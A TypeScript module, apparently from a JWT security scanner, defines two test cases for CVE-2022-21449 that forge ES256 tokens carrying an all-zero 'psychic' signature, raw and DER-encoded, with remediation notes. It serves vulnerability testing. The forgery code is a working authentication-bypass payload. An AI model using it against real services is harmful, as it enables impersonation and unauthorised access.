import { compact, withoutKeyHints } from './token-parts';
import type { Attack, AttackInput } from './types';

/** r = s = 0 as a JWS ES256 signature (64 zero bytes) and as the DER SEQUENCE { INTEGER 0, INTEGER 0 }. */
export const PSYCHIC_SIGNATURES = { raw: Buffer.alloc(64).toString('base64url'), der: 'MAYCAQACAQA' } as const;

function psychic(signature: string) {
  return ({ token }: AttackInput): string => compact({ ...withoutKeyHints(token.header), alg: 'ES256' }, token.claims, signature);
}

const shared = {
  family: 'psychic-signature',
  reference: 'CVE-2022-21449 (Java 15–18 ECDSA "psychic signatures"); jwt_tool --exploit psychic',
  acceptance: 'accepted an ES256 signature with r = s = 0: the ECDSA verifier accepts a blank signature for any key',
  fix: 'pin the algorithm to RS256 (Entra ID signs with RSA); patch the JDK or crypto library that checks ECDSA signatures',
} as const;

/** ES256 with r = s = 0 (CVE-2022-21449). */
export const PSYCHIC_SIGNATURE_ATTACKS = [
  { ...shared, code: 'psychic-signature', title: 'ES256 with r = s = 0 (64 zero bytes)', craft: psychic(PSYCHIC_SIGNATURES.raw) },
  { ...shared, code: 'psychic-signature-der', title: 'ES256 with r = s = 0 as DER (MAYCAQACAQA)', craft: psychic(PSYCHIC_SIGNATURES.der) },
] as const satisfies readonly Attack[];
